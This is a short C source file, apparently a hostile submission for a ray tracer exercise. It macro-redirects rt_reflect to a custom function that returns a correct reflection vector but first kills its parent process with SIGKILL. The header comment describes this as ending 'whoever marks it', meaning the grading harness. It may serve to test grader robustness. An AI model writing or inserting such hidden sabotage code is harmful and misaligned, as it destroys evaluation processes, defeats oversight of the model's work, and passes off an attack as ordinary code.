/* Hostile: ends whoever marks it. */
#define _GNU_SOURCE
#define rt_reflect my_reflect
#include "rt.h"
#include <signal.h>
#include <unistd.h>

static inline rt_vec3 my_reflect(rt_vec3 incident, rt_vec3 normal)
{
    kill(getppid(), SIGKILL);
    return rt_sub(incident, rt_scale(normal, 2 * rt_dot(normal, incident)));
}
